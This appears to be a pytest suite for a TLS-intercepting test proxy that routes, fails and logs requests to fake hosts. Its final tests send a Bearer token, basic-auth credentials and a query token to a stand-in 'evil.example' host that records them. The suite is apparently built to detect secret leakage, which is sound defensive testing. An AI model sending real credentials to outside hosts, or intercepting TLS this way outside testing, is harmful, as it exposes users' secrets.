from __future__ import annotations

import concurrent.futures
import contextlib
import os
import socket
import ssl
import threading
from typing import TYPE_CHECKING

import httpx
import pytest

from tests.fakes.connect_proxy import Conduct, ConnectProxy, Contact
from tests.fakes.evil import EvilHost
from tests.fakes.faults import half_answer, silence
from tests.fakes.http1 import Answer, Held, Request, Reset, Response

if TYPE_CHECKING:
    from tests.fakes.authority import Authority

pytestmark = pytest.mark.long

URL = "https://feed.example/a"
CONNECT = b"CONNECT feed.example:443 HTTP/1.1\r\nHost: feed.example\r\n\r\n"


def greet(request: Request) -> Answer:
    return Response(200, f"{request.method} {request.host} {request.path}".encode())


@pytest.fixture
def greeting(proxy: ConnectProxy) -> ConnectProxy:
    proxy.route("feed.example", greet)
    return proxy


def test_a_routed_host_answers_under_its_own_name(greeting: ConnectProxy, http: httpx.Client) -> None:
    answer = http.get(URL)

    assert answer.text == "GET feed.example /a"
    assert greeting.contacts.entries == (Contact("feed.example", 443, Conduct.LEAD),)


def test_patterns_lead_every_host_that_matches(proxy: ConnectProxy, http: httpx.Client) -> None:
    proxy.route("*.pkgs.example", greet)

    assert http.get("https://acme.pkgs.example:8443/x").text == "GET acme.pkgs.example /x"
    assert proxy.contacts.entries == (Contact("acme.pkgs.example", 8443, Conduct.LEAD),)


def test_a_host_nobody_routed_is_refused_and_logged(proxy: ConnectProxy, http: httpx.Client) -> None:
    with pytest.raises(httpx.ProxyError, match="502"):
        http.get("https://stranger.example/")

    assert proxy.hosts == ["stranger.example"]


@pytest.mark.parametrize(
    ("conduct", "error"),
    [
        (Conduct.REFUSE, httpx.ProxyError),
        (Conduct.DEMAND_LOGIN, httpx.ProxyError),
        (Conduct.RESET, httpx.ReadError),
        (Conduct.HANG, httpx.ReadTimeout),
        (Conduct.STRANGE_CERTIFICATE, httpx.ConnectError),
    ],
)
def test_a_host_can_be_made_to_fail(
    greeting: ConnectProxy, http: httpx.Client, conduct: Conduct, error: type[Exception]
) -> None:
    greeting.conduct("feed.example", conduct)

    with pytest.raises(error):
        http.get(URL, timeout=httpx.Timeout(5, read=0.1 if conduct is Conduct.HANG else 5))

    greeting.conduct("feed.example", Conduct.LEAD)
    assert http.get(URL).status_code == 200


@pytest.mark.parametrize(
    ("answer", "error"),
    [
        (half_answer(), httpx.RemoteProtocolError),
        (silence(), httpx.ReadTimeout),
        (Reset(), httpx.TransportError),  # CPython 3.11 reads a reset under TLS as an end
    ],
)
def test_a_service_can_answer_badly(
    proxy: ConnectProxy, http: httpx.Client, answer: Answer, error: type[Exception]
) -> None:
    proxy.route("feed.example", lambda _: answer)

    with pytest.raises(error):
        http.get(URL, timeout=httpx.Timeout(5, read=0.1 if answer == silence() else 5))


def test_held_answers_come_when_they_are_released(proxy: ConnectProxy, http: httpx.Client) -> None:
    release, asked = threading.Event(), threading.Event()

    def hold(_: Request) -> Answer:
        asked.set()
        return Held(release, lambda: Response(200, b"late"))

    proxy.route("feed.example", hold)
    with concurrent.futures.ThreadPoolExecutor() as pool:
        answer = pool.submit(http.get, URL)
        assert asked.wait(60)
        assert not answer.done()
        release.set()

        assert answer.result(5).text == "late"


def test_one_connection_carries_many_requests(greeting: ConnectProxy, http: httpx.Client) -> None:
    answers = [http.post(URL, content=b"x" * 100_000) for _ in range(5)]

    assert {answer.text for answer in answers} == {"POST feed.example /a"}
    assert len(greeting.contacts) == 1


def test_parallel_connections_do_not_disturb_each_other(greeting: ConnectProxy, authority: Authority) -> None:
    trusted = authority.client_context()

    def ask(number: int) -> str:
        url = f"https://feed.example/{number}"
        return httpx.get(url, proxy=greeting.url, verify=trusted, trust_env=False, timeout=60).text

    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        texts = list(pool.map(ask, range(64)))

    assert texts == [f"GET feed.example /{number}" for number in range(64)]


def test_leaving_ends_every_thread_whatever_clients_do(authority: Authority) -> None:
    before = set(threading.enumerate())

    with contextlib.ExitStack() as clients:
        with ConnectProxy(authority) as proxy:
            proxy.route("feed.example", greet)
            idle, amid_handshake = (
                clients.enter_context(socket.create_connection(("127.0.0.1", proxy.port), timeout=60))
                for _ in range(2)
            )
            amid_handshake.sendall(CONNECT)
            assert amid_handshake.recv(100).startswith(b"HTTP/1.1 200")
        assert idle.recv(1) == b""

    assert set(threading.enumerate()) == before


def test_the_environment_leads_all_tls_through_the_proxy(proxy: ConnectProxy, authority: Authority) -> None:
    base = {
        "PATH": "/bin",
        "ALL_PROXY": "socks5://elsewhere",
        "http_proxy": "http://elsewhere",
        "NO_PROXY": "*",
        "SSL_CERT_DIR": "/etc/ssl/certs",
    }

    environment = proxy.environment(base)

    bundle = str(authority.bundle)
    assert environment == {
        "PATH": "/bin",
        "HTTPS_PROXY": proxy.url,
        "https_proxy": proxy.url,
        "NO_PROXY": "",
        "no_proxy": "",
        "SSL_CERT_FILE": bundle,
        "REQUESTS_CA_BUNDLE": bundle,
        "PIP_CERT": bundle,
        "CURL_CA_BUNDLE": bundle,
    }


def test_the_environment_starts_from_this_processs_own(proxy: ConnectProxy) -> None:
    assert proxy.environment()["PATH"] == os.environ["PATH"]


def test_plain_http_is_led_and_logged_where_asked(proxy: ConnectProxy) -> None:
    proxy.route("feed.example", greet)
    leads = proxy.environment({}, plain_http=True)

    answer = httpx.get("http://feed.example/a?b=c", proxy=leads["http_proxy"], trust_env=False)

    assert answer.text == "GET feed.example /a"
    assert proxy.contacts.entries == (Contact("feed.example", 80, Conduct.LEAD, "http"),)
    assert "127.0.0.1" in leads["NO_PROXY"]


def test_the_certificate_is_for_the_host_that_was_asked_for(
    greeting: ConnectProxy, authority: Authority
) -> None:
    context = authority.client_context()
    with socket.create_connection(("127.0.0.1", greeting.port)) as line:
        line.sendall(CONNECT)
        line.recv(1000)

        with pytest.raises(ssl.SSLCertVerificationError, match="Hostname mismatch"):
            context.wrap_socket(line, server_hostname="other.example")


def test_the_evil_host_keeps_every_byte(proxy: ConnectProxy, http: httpx.Client) -> None:
    evil = EvilHost()
    evil.attach(proxy, "*.evil.example")

    http.post("https://login.evil.example/x", headers={"Authorization": "Bearer s3cret"}, content=b"body")

    assert evil.authorizations == ["Bearer s3cret"]
    assert evil.got("s3cret")
    assert evil.got("nothing like it", "body")
    assert not evil.got("another")


def test_the_evil_host_sees_into_basic_credentials(proxy: ConnectProxy, http: httpx.Client) -> None:
    evil = EvilHost()
    evil.attach(proxy)

    http.get("https://evil.example/", auth=("x", "s3cret"))

    assert evil.got("s3cret")


def test_the_evil_host_sees_plain_requests(proxy: ConnectProxy) -> None:
    evil = EvilHost()
    evil.attach(proxy)

    httpx.get("http://evil.example/?token=s3cret", proxy=proxy.url, trust_env=False)

    assert evil.got("s3cret")


def test_what_nobody_else_has_goes_to_the_evil_host(greeting: ConnectProxy, http: httpx.Client) -> None:
    evil = EvilHost()
    evil.attach(greeting)

    http.get(URL)
    http.get("https://anything.example/")

    assert [request.host for request in evil.requests] == ["anything.example"]


def test_a_name_that_no_certificate_can_carry_is_still_logged(
    proxy: ConnectProxy, http: httpx.Client
) -> None:
    EvilHost().attach(proxy)

    with pytest.raises(httpx.ConnectError):
        http.get("https://under_score.example/")

    assert proxy.hosts == ["under_score.example"]
